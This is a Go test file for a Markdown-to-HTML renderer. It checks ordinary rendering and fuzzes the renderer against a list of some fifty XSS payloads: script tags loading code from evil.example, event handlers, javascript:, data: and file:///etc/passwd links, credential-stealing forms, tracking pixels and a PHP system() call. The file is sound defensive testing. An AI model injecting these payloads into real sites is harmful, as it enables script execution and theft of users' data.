package render

import (
	"net/url"
	"slices"
	"strings"
	"testing"

	"golang.org/x/net/html"
	"golang.org/x/text/unicode/norm"

	"koira/engine"
)

func TestHTML(t *testing.T) {
	for name, c := range map[string]struct{ md, want string }{
		"paragraphs":            {"Rye *today*.\n\nAnd **buns**.", "<p>Rye <em>today</em>.</p>\n<p>And <strong>buns</strong>.</p>"},
		"heading and list":      {"## Hours\n- Tue\n- Wed", "<h2>Hours</h2>\n<ul>\n<li>Tue</li>\n<li>Wed</li>\n</ul>"},
		"list from three":       {"3. a\n4. b", "<ol start=\"3\">\n<li>a</li>\n<li>b</li>\n</ol>"},
		"link":                  {"[Book](https://leipa.example/a?b=1&c=2)", `<p><a href="https://leipa.example/a?b=1&amp;c=2">Book</a></p>`},
		"bare address":          {"See https://leipa.example/a.", `<p>See <a href="https://leipa.example/a">https://leipa.example/a</a>.</p>`},
		"mail":                  {"<mari@leipa.example>", `<p><a href="mailto:mari@leipa.example">mari@leipa.example</a></p>`},
		"picture by its words":  {"![A loaf & a knife](https://leipa.example/a.png)", "<p>A loaf &amp; a knife</p>"},
		"business name":         {"Leipä & Co", "<p>Leipä &amp; Co</p>"},
		"less than":             {"3 < 4 <3", "<p>3 &lt; 4 &lt;3</p>"},
		"template actions stay": {"{{ .Name }}", "<p>{{ .Name }}</p>"},
		"decomposed letters":    {"Leipa\u0308", "<p>Leipä</p>"},
		"hidden by reference":   {"sa&#8203;le &#x202e;x", "<p>sale x</p>"},
		"mark without letter":   {"&#x338; onclick=alert(1) x", "<p>◌\u0338 onclick=alert(1) x</p>"},
		"nothing":               {"  \n", ""},
	} {
		t.Run(name, func(t *testing.T) {
			got, err := HTML(c.md)
			if err != nil {
				t.Fatal(err)
			}
			if got != c.want {
				t.Errorf("got  %s\nwant %s", got, c.want)
			}
		})
	}
	if _, err := HTML("<div>All of it is HTML</div>"); engine.CodeOf(err) != engine.CodeInvalid {
		t.Errorf("a text that would vanish: %v, want code invalid", err)
	}
}

// attacks are after OWASP's list, plus what Markdown itself makes possible.
var attacks = map[string]string{
	"script":                      "hello <script>alert(1)</script>",
	"script block":                "hi\n\n<script>\nalert(1)\n</script>\n",
	"script in capitals":          "hi <SCRIPT SRC=//evil.example/x.js></SCRIPT>",
	"script with a slash":         "hi <script/x>alert(1)</script/x>",
	"nested script":               "hi <scr<script>ipt>alert(1)</scr</script>ipt>",
	"unclosed script":             "hi <script src=//evil.example/x.js",
	"script inside link text":     "[<script>alert(1)</script>](https://leipa.example)",
	"script in a code span":       "`<script>alert(1)</script>`",
	"script in a fence":           "```html\n<script>alert(1)</script>\n```",
	"script in a fence's name":    "```\"><script>alert(1)</script>\nx\n```",
	"script by references":        "hi &lt;script&gt;alert(1)&lt;/script&gt;",
	"handler":                     "hi <img src=x onerror=alert(1)>",
	"handler on a paragraph":      "<p onclick=\"alert(1)\">hi</p>\n\nhi",
	"handler without spaces":      "hi <svg/onload=alert(1)>",
	"handler after a line break":  "hi <b\nonmouseover=alert(1)>x</b>",
	"handler in a link title":     "[a](https://leipa.example \"x\\\" onmouseover=\\\"alert(1)\")",
	"handler in an address":       "[a](https://leipa.example/\"onmouseover=\"alert(1))",
	"handler in a picture":        "![x\" onerror=\"alert(1)](https://leipa.example/a.png)",
	"handler by a melting mark":   "&#x338; onclick=alert(1) >",
	"handler by a late mark":      "&#x301;&#x338; onclick=alert(1) >",
	"javascript link":             "[a](javascript:alert(1))",
	"javascript in capitals":      "[a](JaVaScRiPt:alert(1))",
	"javascript with a tab":       "[a](java&#9;script:alert(1))",
	"javascript with a new line":  "[a](java&#10;script:alert(1))",
	"javascript by references":    "[a](&#106;avascript:alert(1))",
	"javascript after a control":  "[a](<\x01javascript:alert(1)>)",
	"javascript, zero-width":      "[a](java\u200bscript:alert(1))",
	"javascript autolink":         "<javascript:alert(1)>",
	"javascript reference link":   "[a][x]\n\n[x]: javascript:alert(1)",
	"vbscript link":               "[a](vbscript:msgbox(1))",
	"data link":                   "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
	"data picture":                "![a](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)",
	"file link":                   "[a](file:///etc/passwd)",
	"protocol-relative link":      "[a](//evil.example/x)",
	"relative link":               "[a](/wp-admin/post.php?action=delete)",
	"ftp bare address":            "see ftp://evil.example/x",
	"form":                        "hi <form action=https://evil.example><input name=pw><button>go</button></form>",
	"iframe":                      "hi <iframe src=https://evil.example></iframe>",
	"object and embed":            "hi <object data=x.swf></object><embed src=x.swf>",
	"tracking pixel":              "hi <img src=https://evil.example/p.gif width=1 height=1>",
	"tracking pixel, Markdown":    "hi ![](https://evil.example/p.gif?u=1)",
	"style":                       "hi <style>@import 'https://evil.example/x.css';</style>",
	"style attribute":             "hi <b style=\"background:url(https://evil.example)\">x</b>",
	"meta refresh":                "hi <meta http-equiv=refresh content=\"0;url=https://evil.example\">",
	"base":                        "hi <base href=https://evil.example>",
	"link element":                "hi <link rel=stylesheet href=https://evil.example/x.css>",
	"math":                        "hi <math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
	"comment":                     "hi <!-- --><!--[if IE]><script>alert(1)</script><![endif]-->",
	"processing instruction":      "hi <?xml version=\"1.0\"?><?php system('x') ?>",
	"character data":              "hi <![CDATA[<script>alert(1)</script>]]>",
	"table alignment":             "| a |\n|:-:|\n| <img src=x onerror=alert(1)> |",
	"password in a link's domain": "[a](https://bank.example@evil.example/)",
}

func TestHTMLRefusesAttacks(t *testing.T) {
	if len(attacks) < 40 {
		t.Fatalf("%d attacks, want at least 40", len(attacks))
	}
	for name, md := range attacks {
		t.Run(name, func(t *testing.T) {
			page, err := HTML(md)
			if err != nil && engine.CodeOf(err) != engine.CodeInvalid {
				t.Fatal(err)
			}
			harmless(t, page)
		})
	}
}

// harmless fails unless page, read as a browser reads it, is plain structure with safe links. It shares nothing with the code under test.
func harmless(t *testing.T, page string) {
	t.Helper()
	elements := strings.Fields("p br hr h1 h2 h3 h4 h5 h6 strong em del code pre blockquote ul ol li table thead tbody tr th td a")
	if norm.NFC.String(page) != page {
		t.Errorf("not in normal form: %q", page)
	}
	if h := Hidden(page); h != nil {
		t.Errorf("hides %v: %q", h, page)
	}
	z := html.NewTokenizer(strings.NewReader(page))
	for {
		kind := z.Next()
		token := z.Token()
		switch kind {
		case html.ErrorToken:
			return
		case html.CommentToken, html.DoctypeToken:
			t.Errorf("a comment or a declaration: %q", page)
		case html.StartTagToken, html.SelfClosingTagToken, html.EndTagToken:
			if !slices.Contains(elements, token.Data) {
				t.Errorf("element %q in %q", token.Data, page)
			}
		}
		for _, a := range token.Attr {
			address, err := url.Parse(a.Val)
			link := err == nil && token.Data == "a" && a.Key == "href" && address.User == nil &&
				((address.Scheme == "https" || address.Scheme == "http") && address.Host != "" || address.Scheme == "mailto")
			if !link && (token.Data != "ol" || a.Key != "start") {
				t.Errorf("attribute %s=%q of %s in %q", a.Key, a.Val, token.Data, page)
			}
		}
	}
}

func FuzzRender(f *testing.F) {
	for _, md := range attacks {
		f.Add(md)
	}
	f.Add("# A\n\n1. b\n   - c\n\n| d |\n|---|\n| e |\n\n> f\u202e &#8203; \\* &amp; ~~g~~")
	f.Fuzz(func(t *testing.T, md string) {
		page, err := HTML(md)
		if err != nil && engine.CodeOf(err) != engine.CodeInvalid {
			t.Fatal(err)
		}
		harmless(t, page)
		text := Plain(md)
		if h := Hidden(text); h != nil {
			t.Errorf("Plain hides %v: %q", h, text)
		}
		if Clean(text) != text {
			t.Errorf("Plain is not clean: %q", text)
		}
	})
}
